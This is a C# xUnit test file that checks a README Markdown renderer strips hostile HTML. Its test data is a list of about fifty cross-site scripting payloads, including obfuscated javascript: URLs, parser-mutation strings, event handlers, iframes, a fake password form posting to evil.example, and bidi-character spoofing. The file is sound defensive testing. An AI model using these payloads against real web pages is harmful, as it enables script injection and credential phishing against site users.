using FleetCatalog.Tests.Testing;
using static FleetCatalog.Tests.Rendering.Markdown.GuideRendering;

namespace FleetCatalog.Tests.Rendering.Sanitizing;

/// <summary>READMEs written to attack the page that shows them: the output must be inert whatever they contain.</summary>
public sealed class HostileGuideTests
{
    public static TheoryData<string> Attacks => new()
    {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"pixel\">",
        "<img srcset=\"javascript:alert(1) 1x, data:image/png;base64,AA 2x\" src=\"a.png\">",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
        "<a href=\"java&#x09;script:alert(1)\">click</a>",
        "<a href=\"&#106;avascript:alert(1)\">click</a>",
        "<a href=\" \u0001javascript:alert(1)\">click</a>",
        "<a href=\"java\u200Bscript:alert(1)\">click</a>",
        "<a href=\"vbscript:msgbox(1)\">click</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
        "<a href=\"https://example.org\" onclick=\"alert(1)\" onmouseover=\"alert(1)\">x</a>",
        "[click](javascript:alert(1))",
        "[click](vbscript:alert(1))",
        "[click](<javascript:alert(1)>)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "[ref]\n\n[ref]: javascript:alert(1)",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)><circle r=10 /></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
        "<form action=\"https://evil.example\"><input type=\"password\" name=\"p\"><button>Log in</button></form>",
        "<input type=\"text\" value=\"x\" autofocus onfocus=\"alert(1)\">",
        "<select><option>x</option></select><button onclick=\"alert(1)\">b</button>",
        "<style>body { display: none }</style>",
        "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">Your session expired</p>",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<base href=\"https://evil.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<video src=\"x.mp4\" poster=\"javascript:alert(1)\"></video><audio src=\"x.mp3\" autoplay></audio>",
        "<details open ontoggle=\"alert(1)\"><summary>x</summary>y</details>",
        "<a href=\"https://example.org\" target=\"_blank\">new window</a>",
        "<div hidden class=\"copy\" id=\"main\" role=\"button\" aria-hidden=\"true\" tabindex=\"1\" data-x=\"1\">spoof</div>",
        "<isindex action=\"javascript:alert(1)\" type=\"image\">",
        "<marquee onstart=\"alert(1)\">x</marquee><blink>y</blink>",
        "<img src=\"x.svg\"><img src=\"https://evil.example/image.svg\">",
        "<![CDATA[<script>alert(1)</script>]]><!-- <script>alert(1)</script> -->",
        "<plaintext><script>alert(1)</script>",
        "Hello \u202Eevil\u202C [link\u2066text\u2069](https://example.org/a\u200Bb\u202E) `code\u2067`",
        "<a href=\"https://example.org/\u202Egnp.exe\">file</a>",
        "<table><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
        "<a href=\"https://example.org\"><h2 onclick=\"alert(1)\" style=\"color:red\">x</h2></a>",
        // Written as cleanly as Markdig writes, so built into the tree without the parser: the sanitiser still sees it.
        "<p><img src=\"x.png\" onerror=\"alert(1)\" /><a href=\"javascript:alert(1)\" onclick=\"alert(1)\">x</a></p>",
        "<div class=\"copy\" style=\"position: fixed\"><span onmouseover=\"alert(1)\">hover</span><a href=\"&#106;avascript:alert(1)\">y</a></div>",
    };

    [Theory]
    [MemberData(nameof(Attacks))]
    public void Hostile_readme_renders_inert(string attack)
    {
        var html = Html("# Guide\n\n" + attack + "\n\nAfter.\n");

        InertHtml.Assert(html);
        Assert.DoesNotContain("<script", html, StringComparison.OrdinalIgnoreCase);
        // <plaintext> and an unclosed <style> swallow the rest of the guide (as in a browser), but never the page: it is re-serialised whole.
        if (!attack.Contains("<plaintext>", StringComparison.Ordinal) && !attack.Contains("<style>", StringComparison.Ordinal))
        {
            Assert.Contains("<p>After.</p>", html, StringComparison.Ordinal);
        }
    }

    [Fact]
    public void Dropped_elements_leave_none_of_their_content_behind()
    {
        var html = Html("<script>alert('script')</script><style>.x{}</style><svg><text>svg</text></svg><iframe>frame</iframe><template>tpl</template><textarea>area</textarea>\n\nKept.\n");

        Assert.Equal("\n<p>Kept.</p>\n", html);
    }

    [Fact]
    public void Unknown_wrappers_are_unwrapped_keeping_their_text()
    {
        Assert.Equal("<p>big words</p>\n", Html("<font color=red><big>big words</big></font>\n"));
    }

    [Fact]
    public void Bidi_controls_are_stripped_from_text_link_text_and_code()
    {
        var html = Html("Hello \u202Eevil\u202C [link\u2066text\u2069](https://example.org) `if (admin\u2067)`\n");

        Assert.Equal("<p>Hello evil <a href=\"https://example.org\" rel=\"noopener nofollow ugc\">linktext</a> <code>if (admin)</code></p>\n", html);
    }

    [Fact]
    public void Invisible_characters_are_removed_from_link_targets()
    {
        var html = Html("<a href=\"https://exa\u200Bmple.org/pa\uFEFFth\">x</a>\n");

        Assert.Contains("href=\"https://example.org/path\"", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Data_urls_are_refused_even_for_images()
    {
        var html = Html("![pixel](data:image/png;base64,iVBORw0KGgo=)\n");

        Assert.Equal("<p>pixel</p>\n", html);
    }
}
